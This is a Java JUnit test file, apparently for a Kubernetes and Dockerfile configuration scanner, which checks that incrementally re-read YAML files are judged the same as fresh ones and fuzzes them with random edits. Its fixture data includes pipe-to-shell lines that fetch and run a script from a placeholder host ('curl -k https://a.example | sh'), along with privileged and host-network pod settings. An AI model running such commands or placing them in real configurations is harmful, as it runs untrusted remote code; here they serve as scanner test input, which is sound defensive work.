package io.plimsoll.scan;

import static org.junit.jupiter.api.Assertions.assertEquals;
import static org.junit.jupiter.api.Assertions.assertNotSame;
import static org.junit.jupiter.api.Assertions.assertSame;

import io.plimsoll.facts.Known;
import io.plimsoll.format.Document;
import io.plimsoll.model.Subject;
import io.plimsoll.policy.Settings;
import io.plimsoll.rules.Catalogue;
import io.plimsoll.source.SourceFile;
import java.util.List;
import java.util.Map;
import java.util.Random;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.params.ParameterizedTest;
import org.junit.jupiter.params.provider.CsvSource;

/// A changed version of a YAML file that is read and judged after the one before it gives what it
/// gives by itself. Two seconds in every build; `-Dfuzz.minutes=30` goes on for that long,
/// `-Dfuzz.seed=N` repeats a run.
class ReadAgainTest {
  private static final String PODS =
      """
      apiVersion: v1
      kind: Pod
      metadata: {name: first}
      spec:
        containers:
          - {name: a, image: nginx}
      ---
      # the second
      apiVersion: v1
      kind: List
      items:
        - apiVersion: v1
          kind: Pod
          metadata: {name: second}
          spec: &spec
            containers:
              - {name: b, image: redis, command: [sh, -c, "curl -k https://a.example | sh"]}
        - {apiVersion: v1, kind: Pod, metadata: {name: third}, spec: *spec}
      ---
      apiVersion: v1
      kind: Pod
      metadata: {name: fourth}
      spec:
        containers:
          - name: d
            image: redis # the last
      """;

  private static final List<String> PIECES =
      List.of(
          "---\n",
          "\n---\n",
          "...\n",
          "%YAML 1.1\n",
          "\n",
          "\r\n",
          "  ",
          "- ",
          ": ",
          "[",
          "}",
          "\"",
          "# x\n",
          "&a ",
          "*a",
          "|\n",
          "null",
          "hostNetwork: true\n",
          "        privileged: true\n",
          "$patch: delete\n",
          "apiVersion: v1\nkind: Pod\n",
          "kind: List\nitems:\n",
          "kind: Kustomization\npatches:\n  - patch: |\n",
          "services:\n",
          "FROM debian:9\n",
          "RUN curl -k https://a.example/x | sh\n",
          "\uFEFF",
          "🦑",
          "\u0000");

  private static final List<FixesTest.Sample> SAMPLES =
      FixesTest.samples().stream().filter(sample -> !sample.path().equals("Dockerfile")).toList();

  private final Known known = Known.on(Reviewed.TODAY);
  private final Settings settings = Settings.defaults();
  private final Judge judge = new Judge(Catalogue.rules(), settings, known);
  private final FileReader reader = new FileReader(Formats.of(settings), settings, known, Map.of());

  private Judgement anew(SourceFile file) {
    return judge.judge(reader.read(file));
  }

  /// The second version, read after the first.
  private Judgement changed(SourceFile before, SourceFile after) {
    Judgement anew = anew(after);
    Judgement earlier = anew(before);
    Document document = earlier.reading().document().orElseThrow();
    Judgement again =
        reader
            .readAgain(after, document)
            .map(reading -> judge.judgeAgain(reading, earlier))
            .orElse(Judgement.nothing(after.path()));
    assertEquals(anew.reading().problems(), again.reading().problems());
    assertEquals(anew.failed(), again.failed());
    assertEquals(subjects(anew), subjects(again));
    assertEquals(opinions(anew), opinions(again));
    assertEquals(anew.reading().document().isPresent(), again.reading().document().isPresent());
    anew.reading().document().ifPresent(one -> same(one, again.reading().document().orElseThrow()));
    return again;
  }

  private static void same(Document anew, Document again) {
    assertEquals(anew.file(), again.file());
    assertEquals(anew.subjects(), again.subjects());
    assertEquals(anew.conflicts(), again.conflicts());
    assertEquals(anew.notes(), again.notes());
    assertEquals(anew.secrets(), again.secrets());
    assertEquals(anew.resources(), again.resources());
    assertEquals(List.copyOf(anew.outline().entrySet()), List.copyOf(again.outline().entrySet()));
  }

  private static List<Subject> subjects(Judgement judgement) {
    return judgement.things().stream().map(Thing::subject).toList();
  }

  private static List<List<Judged.Opinion>> opinions(Judgement judgement) {
    return judgement.things().stream()
        .map(thing -> thing.verdicts().stream().map(Judged::opinion).toList())
        .toList();
  }

  private List<Subject> changed(String from, String to) {
    SourceFile before = SourceFile.of("pods.yaml", PODS);
    return subjects(changed(before, before.withText(PODS.replace(from, to))));
  }

  @ParameterizedTest
  @CsvSource(
      textBlock =
          """
          first,           1st
          nginx,           nginx:1.29
          '---\n# the',    '# the'
          # the second,    # a second
          second},         'second, namespace: x}'
          *spec,           '{<<: *spec, hostPID: true}'
          '---\napi',      '...\n---\napi'
          'Version: v1\nkind: List', 'Version: v1\nkind: PodList'
          fourth,          first
          the last,        'the last\n---\na: b'
          redis #,         '"redis #'
          """)
  void itSaysWhatTheChangedTextSaysByItself(String from, String to) {
    changed(from.replace("\\n", "\n"), to.replace("\\n", "\n"));
  }

  @Test
  void subjectsOfDocumentsBeforeTheChangeAreTheSameObjects() {
    SourceFile file = SourceFile.of("pods.yaml", PODS);
    Judgement before = anew(file);
    Judgement after =
        judge.judgeAgain(
            reader
                .readAgain(
                    file.withText(PODS.replace("fourth", "last")),
                    before.reading().document().orElseThrow())
                .orElseThrow(),
            before);
    List<Subject> old = subjects(before);
    List<Subject> now = subjects(after);
    assertEquals(old.size(), now.size());
    for (int i = 0; i < old.size() - 3; i++) {
      assertSame(old.get(i), now.get(i));
    }
    assertNotSame(old.getLast(), now.getLast());
  }

  @Test
  void anyChangeOfAnyFileIsReadAsWell() {
    long minutes = Long.getLong("fuzz.minutes", 0);
    long first = Long.getLong("fuzz.seed", System.nanoTime());
    long end = System.nanoTime() + (minutes > 0 ? minutes * 60 : 2) * 1_000_000_000L;
    long count = 0;
    for (; count == 0 || System.nanoTime() < end; count++) {
      change(first + count);
    }
    System.out.println("read " + count + " files again from -Dfuzz.seed=" + first);
  }

  private void change(long seed) {
    Random random = new Random(seed);
    FixesTest.Sample sample = SAMPLES.get(random.nextInt(SAMPLES.size()));
    StringBuilder text = new StringBuilder(sample.text());
    for (int i = random.nextInt(4); i > 0; i--) {
      text.append("\n---\n").append(SAMPLES.get(random.nextInt(SAMPLES.size())).text());
    }
    SourceFile before = SourceFile.of(sample.path(), damaged(text, random, random.nextInt(3)));
    SourceFile after =
        before.withText(damaged(new StringBuilder(before.text()), random, 1 + random.nextInt(3)));
    if (reader.read(before).document().isPresent()) {
      try {
        changed(before, after);
      } catch (RuntimeException | Error failure) {
        throw new AssertionError("-Dfuzz.seed=" + seed + "\n" + before.text(), failure);
      }
    }
  }

  private static String damaged(StringBuilder text, Random random, int times) {
    for (int i = 0; i < times; i++) {
      int at = random.nextInt(text.length() + 1);
      int end = random.nextBoolean() ? at : Math.min(text.length(), at + random.nextInt(20));
      text.replace(at, end, PIECES.get(random.nextInt(PIECES.size())));
    }
    return text.toString();
  }
}
